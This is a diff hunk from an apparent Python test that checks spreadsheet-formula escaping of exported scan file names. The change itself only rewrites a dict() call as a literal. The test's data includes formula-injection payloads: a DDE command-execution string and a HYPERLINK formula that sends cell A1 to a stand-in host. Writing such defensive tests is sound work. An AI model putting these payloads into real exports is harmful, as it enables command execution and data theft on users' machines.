@@ -252,7 +252,7 @@ def test_an_exported_name_a_spreadsheet_would_run_as_a_formula_is_escaped_and_re
     scans = tmp_path / "scans"
     scans.mkdir()
     names = ["=cmd|'-c calc'!A0.png", '=HYPERLINK("x.test?"&A1,"ok").png', "+1.png", "@sum.png", "'quoted.png", "-"]
-    box = dict(field_x=40, field_y=60, field_w=440, field_h=100)
+    box = {"field_x": 40, "field_y": 60, "field_w": 440, "field_h": 100}
     rows = []
     for name in names:
         field_scan(scans / name, "12")
